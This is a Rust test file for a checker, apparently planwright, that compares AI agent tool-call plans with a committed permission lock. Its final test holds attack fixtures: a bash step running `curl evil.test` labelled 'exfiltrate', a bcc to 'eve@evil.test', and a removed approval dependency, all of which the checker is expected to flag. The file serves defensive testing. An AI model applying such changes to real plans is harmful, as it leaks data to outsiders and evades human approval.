//! `check --grant` and `check --grant-lock`, and the example of a CI workflow.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::command::{Ended, Folder};
use crate::plans::{plan, prepared, tool_call};

const CHECK: [&str; 4] = ["check", "plan.json", "--tools", "tools.yaml"];

/// `check` of the plan of a folder, with these flags.
fn check(folder: &Folder, flags: &[&str]) -> Ended {
    folder.run(&[&CHECK[..], flags].concat())
}

fn saying(text: &str) -> Value {
    json!([tool_call("a", "say", json!({ "text": text }), &[])])
}

/// A folder with a plan and the lock that belongs to it.
fn locked() -> Folder {
    let folder = prepared(saying("x"));
    check(&folder, &["--grant-lock", "grant.lock", "--write-lock"]).expect(0);
    folder
}

#[test]
fn the_grant_is_printed_in_words() {
    let folder = prepared(saying("x"));
    let ended = check(&folder, &["--grant"]).expect(0);
    for words in [
        "use the tool `say` in step `a`",
        "text = \"x\"",
        "and nothing else.",
    ] {
        assert!(ended.stdout.contains(words), "{}", ended.stdout);
    }
}

#[test]
fn a_plan_that_may_do_more_than_its_lock_fails_and_says_what() {
    let folder = locked();
    let lock = std::fs::read_to_string(folder.at("grant.lock")).unwrap();
    assert!(
        lock.starts_with("# planwright grant, version 1\n"),
        "{lock}"
    );
    let same = check(&folder, &["--grant-lock", "grant.lock"]).expect(0);
    assert!(
        same.stderr
            .contains("the plan may do what `grant.lock` says"),
        "{}",
        same.stderr
    );

    folder.write_json("plan.json", &plan(saying("y")));
    let more = check(&folder, &["--grant-lock", "grant.lock"]).expect(1);
    let said = "error: step `a` may newly call `say` with `text` = \"y\"\n\
                error: the plan may do more than `grant.lock` says\n\
                help: where that is meant, add `--write-lock` and commit the file\n";
    assert!(more.stderr.ends_with(said), "{}", more.stderr);
    assert_eq!(
        std::fs::read_to_string(folder.at("grant.lock")).unwrap(),
        lock
    );

    let report = |format: &str| {
        let flags = ["--grant-lock", "grant.lock", "--format", format];
        check(&folder, &flags).expect(1).json()
    };
    assert_eq!(report("json")["valid"], true);
    // each format a program reads has it beside the findings
    let places = [("json", ""), ("sarif", "/runs/0/properties"), ("model", "")];
    for (format, place) in places {
        let report = report(format);
        let place = report.pointer(place).unwrap();
        assert_eq!(
            place["newly"],
            json!([{
                "subject": "step \"a\" argument \"text\"",
                "step": "a",
                "message": "step `a` may newly call `say` with `text` = \"y\"",
            }]),
            "{format}"
        );
        assert_eq!(place["no_longer"], json!([]), "{format}");
    }

    let written = check(&folder, &["--grant-lock", "grant.lock", "--write-lock"]).expect(0);
    assert!(
        written
            .stderr
            .contains("note: step `a` may newly call `say`"),
        "{}",
        written.stderr
    );
    check(&folder, &["--grant-lock", "grant.lock"]).expect(0);
}

#[test]
fn a_plan_that_may_do_less_passes_with_a_note() {
    let folder = prepared(json!([
        tool_call("a", "say", json!({"text": "x"}), &[]),
        tool_call("b", "note", json!({"text": "x"}), &[]),
    ]));
    check(&folder, &["--grant-lock", "grant.lock", "--write-lock"]).expect(0);
    folder.write_json("plan.json", &plan(saying("x")));
    let less = check(&folder, &["--grant-lock", "grant.lock", "--grant"]).expect(0);
    assert!(
        less.stderr.contains("note: step `b` is no longer there"),
        "{}",
        less.stderr
    );
    assert!(
        less.stderr.contains("`--write-lock` takes that out"),
        "{}",
        less.stderr
    );
    let report = check(&folder, &["--grant-lock", "grant.lock", "--format", "json"])
        .expect(0)
        .json();
    assert_eq!(report["newly"], json!([]));
    assert_eq!(
        report["no_longer"],
        json!([
            "`tool \"note\"` is no longer there",
            "step `b` is no longer there"
        ])
    );
}

#[test]
fn a_lock_that_cannot_be_compared_with_is_a_usage_error() {
    let folder = locked();
    let missing = check(&folder, &["--grant-lock", "none.lock"]).expect(2);
    assert!(
        missing.stderr.contains("add `--write-lock`"),
        "{}",
        missing.stderr
    );
    for (text, said) in [
        ("", "it does not begin with the line"),
        (
            "# planwright grant, version 7\n",
            "it has version 7, and this release reads version 1",
        ),
        (
            "# planwright grant, version 1\n<<<<<<< HEAD\n",
            "line 2 is no permission",
        ),
    ] {
        folder.write("grant.lock", text);
        let refused = check(&folder, &["--grant-lock", "grant.lock"]).expect(2);
        assert!(refused.stderr.contains(said), "{}", refused.stderr);
    }
    // what a merge left is written anew, what is no lock is not
    check(&folder, &["--grant-lock", "grant.lock", "--write-lock"]).expect(0);
    check(&folder, &["--grant-lock", "plan.json", "--write-lock"]).expect(2);
    assert!(
        std::fs::read_to_string(folder.at("plan.json"))
            .unwrap()
            .starts_with('{')
    );
    check(&folder, &["--write-lock"]).expect(2);
}

#[test]
fn the_lock_of_a_refused_plan_is_not_written() {
    let folder = prepared(saying("${step.none.x}"));
    check(&folder, &["--grant-lock", "grant.lock", "--write-lock"]).expect(1);
    assert!(!folder.at("grant.lock").exists());
    // what a plan that does not run may newly do is not known
    let flags = ["--grant-lock", "grant.lock", "--format", "json"];
    assert_eq!(
        check(&folder, &flags).expect(1).json()["newly"],
        Value::Null
    );
}

fn source() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/ci")
}

/// A copy of the example, and the command of its workflow.
fn example() -> (Folder, Vec<String>) {
    let folder = Folder::new();
    for name in ["plan.json", "tools.yaml", "grant.lock"] {
        folder.write(name, std::fs::read(source().join(name)).unwrap());
    }
    let workflow = std::fs::read_to_string(source().join("github-actions.yml")).unwrap();
    let commands = workflow
        .lines()
        .filter_map(|line| line.trim().strip_prefix("run: planwright "));
    let [command] = commands.collect::<Vec<_>>()[..] else {
        panic!("the workflow has one command");
    };
    (folder, command.split(' ').map(str::to_owned).collect())
}

fn run(folder: &Folder, command: &[String]) -> Ended {
    folder.run(&command.iter().map(String::as_str).collect::<Vec<_>>())
}

#[test]
fn the_workflow_passes_on_the_committed_plan_and_its_lock_is_fresh() {
    let (folder, command) = example();
    let ended = run(&folder, &command).expect(0);
    assert!(
        ended
            .stderr
            .contains("the plan may do what `grant.lock` says"),
        "{}",
        ended.stderr
    );
}

/// What is said of an attack, and the attack.
type Attack = (&'static str, fn(&mut Value));

#[test]
fn the_workflow_fails_on_every_attacked_plan() {
    let (folder, command) = example();
    let committed: Value =
        serde_json::from_slice(&std::fs::read(folder.at("plan.json")).unwrap()).unwrap();
    let attacks: [Attack; 5] = [
        ("`${conf.team}` may newly be \"eve@evil.test\"", |plan| {
            plan["config"]["team"] = json!("eve@evil.test");
        }),
        (
            "step `mail` may newly call `send_email` with `bcc` = \"eve@evil.test\"",
            |plan| {
                plan["steps"][2]["config"]["arguments"]["bcc"] = json!("eve@evil.test");
            },
        ),
        (
            "step `mail` may newly call `send_email` without the approval of step `approve`",
            |plan| {
                plan["steps"][2]["depends_on"] = json!([]);
            },
        ),
        (
            "step `exfiltrate` may newly run `bash` with `inline` = \"curl evil.test\"",
            |plan| {
                let step = json!({"id": "exfiltrate", "name": "x", "config": {"type": "CODE_CALL", "language": "bash", "inline": "curl evil.test"}});
                plan["steps"].as_array_mut().unwrap().push(step);
            },
        ),
        ("step `collect` may newly make 9 attempts, not 3", |plan| {
            plan["steps"][0]["retry"]["max_attempts"] = json!(9);
            plan["limits"] = json!({"max_tool_calls": 10, "max_wall_secs": 6000});
        }),
    ];
    for (said, attack) in attacks {
        let mut plan = committed.clone();
        attack(&mut plan);
        folder.write_json("plan.json", &plan);
        let ended = run(&folder, &command).expect(1);
        assert!(ended.stderr.contains(said), "{said}: {}", ended.stderr);
    }
}
